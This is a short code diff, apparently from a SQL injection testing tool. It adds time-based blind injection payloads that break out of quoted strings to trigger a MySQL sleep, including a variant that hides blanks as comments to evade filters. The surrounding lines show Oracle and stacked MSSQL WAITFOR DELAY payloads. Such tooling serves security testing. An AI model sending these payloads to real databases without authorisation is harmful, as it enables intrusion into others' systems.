@@ -25,6 +25,12 @@ _ANYWHERE = (
     ("Oracle", f"{_ORACLE}/*'||{_ORACLE}||'*/", "RECEIVE_MESSAGE", "RECEIVE_MESSAQE"),
 )
 
+MYSQL_WAITS = f"/*'+{_MYSQL}+'\"+{_MYSQL}+\"*/"
+"""Behind any text inside quotes of either kind: MySQL waits `{d}` seconds, and other systems know no such function."""
+
+MYSQL_WAITS_BARE = f"'+{_MYSQL.replace(' ', '/**/')}+'"
+"""The same for single quotes, where neither blanks nor double quotes can be sent."""
+
 # A second statement with a comment behind it: only where the first one can be trusted to read.
 _STACKED = (
     ("Microsoft SQL Server, number", "{v};WAITFOR DELAY '0:0:{d}'-- "),
